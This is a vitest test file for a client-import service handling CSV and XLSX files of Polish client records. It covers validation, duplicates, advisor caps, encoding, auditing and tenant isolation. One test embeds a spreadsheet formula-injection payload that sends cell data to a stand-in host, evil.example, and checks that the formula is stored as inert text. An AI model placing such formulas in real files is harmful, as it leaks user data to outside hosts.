import { beforeEach, describe, expect, it } from "vitest";
import type { TContext } from "@/lib/auth/context";
import { assignClient } from "@/lib/domain/caseload/service";
import { getImportPage, commitImport } from "@/lib/domain/imports/service";
import { auditRows, contextFor, createOffice, createTenant, createUser, ownerQuery, type TTenantRow, type TUserRow } from "@/tests/factories";
import { appErrorOf, tenantSnapshot } from "@/tests/factories/assertions";
import { createCaseloadClients } from "@/tests/factories/caseload";
import { nipNumber, peselNumber, windows1250, wrongPesel } from "@/tests/factories/identifiers";
import { clientsCsv, clientsXlsx, utf8, type TClientCells } from "@/tests/factories/import-files";
import { clientCount, commit, dryRun, importFile } from "./import-support";

/**
 * Issue 18, the client import against PostgreSQL: the dry run reports exactly the bad rows and
 * writes nothing; a clean file lands whole; the same file again creates no duplicates; the cap is
 * counted over the whole file; Windows-1250 CSV; formulas stay text; other tenants untouched.
 */

let tenant: TTenantRow;
let manager: TUserRow;
let advisor: TUserRow;
let ctx: TContext;

beforeEach(async () => {
  tenant = await createTenant();
  manager = await createUser(tenant, { role: "MANAGER" });
  advisor = await createUser(tenant, { role: "KEY_ADVISOR", name: "Jan Doradca", email: "jan.doradca@example.test" });
  ctx = contextFor(manager);
});

const person = (n: number, extra: TClientCells = {}): TClientCells => ({
  kind: "Osoba fizyczna",
  name: `Osoba ${n}`,
  pesel: peselNumber(n),
  town: "Radom",
  atRiskOfExclusion: n % 2 === 0 ? "TAK" : "NIE",
  kpresSpheres: "Zrównoważony rozwój; Solidarność pokoleń",
  ...extra,
});

describe("a client file of 5,000 rows", () => {
  it("with one bad PESEL in row 1,234 writes nothing and reports exactly that row; fixed, it imports every row", async () => {
    const rows = Array.from({ length: 4999 }, (_, i) => person(i));
    // Row 1 is the header, so the 1,233rd data row is row 1,234 in Excel.
    rows[1232] = person(1232, { pesel: wrongPesel(1232) });
    const bad = await dryRun(ctx, "CLIENTS", utf8(clientsCsv(rows)), { fileName: "klienci.csv" });
    expect(bad.dataImport).toMatchObject({ status: "INVALID", totalRows: 4999, invalidRows: 1, issueCount: 1 });
    expect(bad.issues).toEqual([{ rowNumber: 1234, column: "PESEL", message: "validation.invalidPesel", params: null }]);
    expect(await clientCount(tenant.id)).toBe(0);
    expect((await appErrorOf(commitImport(ctx, bad.id))).code).toBe("INVALID_STATE");
    expect(await clientCount(tenant.id)).toBe(0);

    // Fixed, and saved as a workbook this time: thousands of XLSX rows streamed while the dry run reports its progress.
    rows[1232] = person(1232);
    const done = await importFile(ctx, "CLIENTS", await clientsXlsx(rows), { fileName: "klienci.xlsx" });
    expect(done.checked).toMatchObject({ status: "VALID", toCreate: 4999, toUpdate: 0, toSkip: 0 });
    expect(done.dataImport).toMatchObject({ status: "IMPORTED", toCreate: 4999 });
    expect(await clientCount(tenant.id)).toBe(4999);
    const [sample] = await ownerQuery<{ name: string; pesel: string; status: string; at_risk_of_exclusion: boolean; kpres_spheres: string }>(
      `SELECT name, pesel, status::text, at_risk_of_exclusion, kpres_spheres::text FROM client WHERE tenant_id = $1 AND pesel = $2`,
      [tenant.id, peselNumber(1232)],
    );
    expect(sample).toEqual({ name: "Osoba 1232", pesel: peselNumber(1232), status: "WAITING", at_risk_of_exclusion: true, kpres_spheres: "{SUSTAINABLE_DEVELOPMENT,SOLIDARITY_OF_GENERATIONS}" });

    // Audited as one import (file name, checksum, user, counts), and each client names it.
    const audit = await auditRows(tenant.id);
    const entry = audit.find((row) => row.action === "import.commit");
    expect(entry).toMatchObject({ actor_id: manager.id, entity_id: done.id });
    expect(entry?.after).toMatchObject({ kind: "CLIENTS", fileName: "klienci.xlsx", created: 4999, updated: 0, skipped: 0 });
    expect(String((entry?.after as { checksum?: string }).checksum)).toMatch(/^[0-9a-f]{64}$/);
    expect(audit.filter((row) => row.action === "client.create" && (row.after as { importId?: string }).importId === done.id)).toHaveLength(4999);
    // The imported file is not kept once its rows live in their tables.
    const [stored] = await ownerQuery<{ content: Buffer | null }>(`SELECT content FROM data_import WHERE id = $1`, [done.id]);
    expect(stored?.content).toBeNull();
  });
});

describe("importing again", () => {
  it("the same file creates no duplicates; with the update option it changes what the file changed, audited", async () => {
    const rows = [person(1), person(2), { kind: "Spółdzielnia socjalna", name: "Spółdzielnia Razem", nip: nipNumber(7), town: "Kielce" }, { kind: "Grupa inicjatywna", name: "Grupa z Radomia", town: "Radom" }];
    await importFile(ctx, "CLIENTS", utf8(clientsCsv(rows)));
    expect(await clientCount(tenant.id)).toBe(4);

    const again = await importFile(ctx, "CLIENTS", utf8(clientsCsv(rows)));
    expect(again.checked).toMatchObject({ toCreate: 0, toUpdate: 0, toSkip: 4 });
    expect(await clientCount(tenant.id)).toBe(4);

    const changed = rows.map((row, i) => (i === 0 ? { ...row, town: "Kozienice", phone: "600 100 200" } : row));
    const updated = await importFile(ctx, "CLIENTS", utf8(clientsCsv(changed)), { updateExisting: true });
    expect(updated.checked).toMatchObject({ toCreate: 0, toUpdate: 4, toSkip: 0 });
    expect(await clientCount(tenant.id)).toBe(4);
    const [row] = await ownerQuery<{ id: string; town: string; phone: string; name: string }>(`SELECT id, town, phone, name FROM client WHERE tenant_id = $1 AND pesel = $2`, [tenant.id, peselNumber(1)]);
    expect(row).toMatchObject({ town: "Kozienice", phone: "600 100 200", name: "Osoba 1" });
    const updates = (await auditRows(tenant.id)).filter((a) => a.action === "client.update");
    // Only the row that changed is written and audited, with before and after.
    expect(updates).toHaveLength(1);
    expect(updates[0]).toMatchObject({ entity_id: row?.id, before: { town: "Radom", phone: null }, after: { town: "Kozienice", phone: "600 100 200" } });
  });

  it("reports an identifier twice in the file, naming the first row", async () => {
    const rows = [person(1), person(2), person(1, { name: "Ktoś inny" })];
    const result = await dryRun(ctx, "CLIENTS", utf8(clientsCsv(rows)));
    expect(result.issues).toEqual([{ rowNumber: 4, column: "PESEL", message: "imports.issues.duplicateInFile", params: { row: 2 } }]);
  });
});

describe("the cap over the whole file", () => {
  it("refuses in the dry run a file that puts an advisor over their limit, naming the advisor, the load and the rows", async () => {
    await createCaseloadClients(tenant, 13, { status: "ACTIVE", keyAdvisorId: advisor.id });
    const rows = [person(1), person(2, { advisorEmail: "jan.doradca@example.test" }), person(3), person(4, { advisorEmail: "JAN.DORADCA@example.test" }), person(5, { advisorEmail: "jan.doradca@example.test" })];
    const result = await dryRun(ctx, "CLIENTS", utf8(clientsCsv(rows)));
    expect(result.dataImport.status).toBe("INVALID");
    const params = { advisor: "Jan Doradca", load: 13, limit: 15, adding: 3, rows: "3, 5–6" };
    expect(result.issues).toEqual([3, 5, 6].map((rowNumber) => ({ rowNumber, column: "Doradca kluczowy (e-mail)", message: "imports.issues.advisorOverLimit", params })));
    expect(await clientCount(tenant.id)).toBe(13);
  });

  it("assigns within the limit, and refuses the import whole when the advisor filled up after the dry run", async () => {
    await createCaseloadClients(tenant, 13, { status: "ACTIVE", keyAdvisorId: advisor.id });
    const rows = [person(1, { advisorEmail: advisor.email }), person(2, { advisorEmail: advisor.email }), person(3)];
    const checked = await dryRun(ctx, "CLIENTS", utf8(clientsCsv(rows)));
    expect(checked.dataImport).toMatchObject({ status: "VALID", toCreate: 3 });

    // 13 + the file's 2 fit the limit of 15; meanwhile a manager gives the advisor a 14th client.
    const [waiting] = await createCaseloadClients(tenant, 1);
    await assignClient(ctx, { clientId: waiting?.id ?? "", advisorId: advisor.id });
    const before = await clientCount(tenant.id);
    const result = await commit(ctx, checked.id);
    expect(result.dataImport).toMatchObject({ status: "INVALID", failure: "changedSinceDryRun" });
    expect(result.issues.map((i) => [i.rowNumber, i.message])).toEqual([
      [2, "imports.issues.advisorOverLimit"],
      [3, "imports.issues.advisorOverLimit"],
    ]);
    expect(await clientCount(tenant.id)).toBe(before);

    // Another advisor takes them: imported, ACTIVE with their key advisor, assignments written.
    const other = await createUser(tenant, { role: "KEY_ADVISOR" });
    const done = await importFile(ctx, "CLIENTS", utf8(clientsCsv(rows.map((row) => (row.advisorEmail ? { ...row, advisorEmail: other.email } : row)))));
    expect(done.dataImport.status).toBe("IMPORTED");
    const assigned = await ownerQuery<{ status: string; key_advisor_id: string | null; assignments: number }>(
      `SELECT c.status::text, c.key_advisor_id, (SELECT count(*)::int FROM client_assignment a WHERE a.client_id = c.id AND a.advisor_id = $2 AND a.released_at IS NULL) AS assignments
       FROM client c WHERE c.tenant_id = $1 AND c.pesel = ANY($3) ORDER BY c.pesel`,
      [tenant.id, other.id, [peselNumber(1), peselNumber(2), peselNumber(3)]],
    );
    expect(assigned.map((a) => [a.status, a.key_advisor_id, a.assignments])).toEqual(
      [peselNumber(1), peselNumber(2), peselNumber(3)]
        .map((pesel, i) => ({ pesel, expected: i < 2 ? ["ACTIVE", other.id, 1] : ["WAITING", null, 0] }))
        .sort((a, b) => a.pesel.localeCompare(b.pesel))
        .map((x) => x.expected),
    );
  });

  it("refuses an e-mail that is not an active key advisor's, and an office the centre does not have", async () => {
    const animator = await createUser(tenant, { role: "ANIMATOR" });
    await createOffice(tenant, { name: "Biuro w Radomiu" });
    const rows = [person(1, { advisorEmail: "nikt@example.test" }), person(2, { advisorEmail: animator.email }), person(3, { office: "biuro w radomiu" }), person(4, { office: "Biuro w Płocku" })];
    const result = await dryRun(ctx, "CLIENTS", utf8(clientsCsv(rows)));
    expect(result.issues.map((i) => [i.rowNumber, i.column, i.message])).toEqual([
      [2, "Doradca kluczowy (e-mail)", "imports.issues.unknownUser"],
      [3, "Doradca kluczowy (e-mail)", "validation.notAKeyAdvisor"],
      [5, "Biuro", "validation.unknownOffice"],
    ]);
  });
});

describe("what a file may hold", () => {
  it("stores every column of the template where the form would", async () => {
    const office = await createOffice(tenant, { name: "Biuro w Radomiu" });
    await importFile(
      ctx,
      "CLIENTS",
      utf8(
        clientsCsv([
          {
            kind: "Osoba fizyczna",
            name: "Łucja Żak",
            pesel: peselNumber(21),
            email: "Lucja.Zak@Example.pl",
            phone: "+48 600-100-200",
            voivodeship: "Mazowieckie",
            county: "radomski",
            commune: "Jedlińsk",
            town: "Łódź",
            street: "ul. Długa 1",
            postalCode: "26-660",
            atRiskOfExclusion: "tak",
            hasDisability: "TAK",
            aged50Plus: "1",
            leavingReintegrationEntity: "nie",
            longTermUnemployed: "T",
            kpresSpheres: "Usługi aktywnej integracji",
            office: "Biuro w Radomiu",
            status: "Oczekuje na doradcę",
            notes: "Z listy 2024",
          },
          { kind: "Jednostka samorządu terytorialnego", subtype: "Gmina", name: "Gmina Jedlińsk", nip: nipNumber(9), status: "Wsparcie zakończone" },
        ]),
      ),
    );
    const rows = await ownerQuery<Record<string, unknown>>(
      `SELECT kind::text, subtype, name, name_normalized, status::text, email, phone, voivodeship, county, commune, town, town_normalized, street, postal_code,
              at_risk_of_exclusion, has_disability, aged_50_plus, leaving_reintegration_entity, long_term_unemployed, kpres_spheres::text, office_id, notes,
              waiting_since IS NOT NULL AS waiting
       FROM client WHERE tenant_id = $1 ORDER BY name`,
      [tenant.id],
    );
    expect(rows).toEqual([
      expect.objectContaining({ kind: "LOCAL_GOVERNMENT", subtype: "GMINA", name: "Gmina Jedlińsk", status: "CLOSED", waiting: false, kpres_spheres: "{}" }),
      {
        kind: "PERSON",
        subtype: null,
        name: "Łucja Żak",
        name_normalized: "lucja zak",
        status: "WAITING",
        email: "lucja.zak@example.pl",
        phone: "+48 600-100-200",
        voivodeship: "mazowieckie",
        county: "radomski",
        commune: "Jedlińsk",
        town: "Łódź",
        town_normalized: "lodz",
        street: "ul. Długa 1",
        postal_code: "26-660",
        at_risk_of_exclusion: true,
        has_disability: true,
        aged_50_plus: true,
        leaving_reintegration_entity: false,
        long_term_unemployed: true,
        kpres_spheres: "{ACTIVE_INTEGRATION_SERVICES}",
        office_id: office.id,
        notes: "Z listy 2024",
        waiting: true,
      },
    ]);
  });

  it("imports a Windows-1250 CSV with semicolons and Polish letters", async () => {
    const text = clientsCsv([
      { kind: "Osoba fizyczna", name: "Żaneta Łęcka-Źródłowska", pesel: peselNumber(11), town: "Łódź", street: "ul. Ściegiennego 5; lok. 2" },
      { kind: "Stowarzyszenie lub fundacja", name: "Fundacja „Ćma”", nip: nipNumber(3), town: "Świętochłowice" },
    ]).replace(/„|”/g, '"');
    const done = await importFile(ctx, "CLIENTS", windows1250(text), { fileName: "klienci-ansi.csv" });
    expect(done.dataImport.status).toBe("IMPORTED");
    const rows = await ownerQuery<{ name: string; town: string; street: string | null }>(`SELECT name, town, street FROM client WHERE tenant_id = $1 ORDER BY name`, [tenant.id]);
    expect(rows).toEqual([
      { name: 'Fundacja "Ćma"', town: "Świętochłowice", street: null },
      { name: "Żaneta Łęcka-Źródłowska", town: "Łódź", street: "ul. Ściegiennego 5; lok. 2" },
    ]);
  });

  it("takes a formula cell as its text, never its result", async () => {
    const bytes = await clientsXlsx([person(1), person(2)], { "1:name": { formula: 'HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', result: "Kliknij" } });
    const done = await importFile(ctx, "CLIENTS", bytes);
    expect(done.dataImport.status).toBe("IMPORTED");
    const names = await ownerQuery<{ name: string }>(`SELECT name FROM client WHERE tenant_id = $1 ORDER BY name`, [tenant.id]);
    expect(names.map((n) => n.name)).toEqual(["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Kliknij\")", "Osoba 1"]);
  });

  it("refuses a file that is not a spreadsheet by its content, whatever its name, and one over the size limit", async () => {
    const pdf = utf8("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n");
    const notSheet = await appErrorOf(dryRun(ctx, "CLIENTS", pdf, { fileName: "klienci.xlsx" }));
    expect(notSheet).toMatchObject({ code: "VALIDATION_FAILED", fieldErrors: { file: "notSpreadsheet" } });
    const huge = new Uint8Array(26 * 1024 * 1024).fill(0x41);
    expect(await appErrorOf(dryRun(ctx, "CLIENTS", huge, { fileName: "duzy.csv" }))).toMatchObject({ fieldErrors: { file: "fileTooLarge" } });
    expect(await ownerQuery(`SELECT id FROM data_import WHERE tenant_id = $1`, [tenant.id])).toEqual([]);
  });

  it("reports a missing required column on the header row and reads no rows", async () => {
    const text = clientsCsv([person(1)]).replace("Rodzaj klienta", "Typ");
    const result = await dryRun(ctx, "CLIENTS", utf8(text));
    expect(result.dataImport.status).toBe("INVALID");
    expect(result.issues).toEqual([{ rowNumber: 1, column: "Rodzaj klienta", message: "imports.issues.missingColumn", params: null }]);
  });
});

describe("tenants and permissions", () => {
  it("leaves other tenants untouched, answers another tenant's import as missing, and is the manager's alone", async () => {
    const other = await createTenant();
    const otherManager = await createUser(other, { role: "MANAGER" });
    await importFile(contextFor(otherManager), "CLIENTS", utf8(clientsCsv([person(1)])));
    const snapshot = await tenantSnapshot(other.id);

    const mine = await importFile(ctx, "CLIENTS", utf8(clientsCsv([person(1), person(2)])));
    expect(mine.dataImport.status).toBe("IMPORTED");
    expect(await tenantSnapshot(other.id)).toEqual(snapshot);

    const foreignCtx = contextFor(otherManager);
    expect((await appErrorOf(getImportPage(foreignCtx, mine.id))).code).toBe("NOT_FOUND");
    expect((await appErrorOf(commitImport(foreignCtx, mine.id))).code).toBe("NOT_FOUND");
    expect((await appErrorOf(dryRun(contextFor(advisor), "CLIENTS", utf8(clientsCsv([person(3)]))))).code).toBe("FORBIDDEN");
  });
});
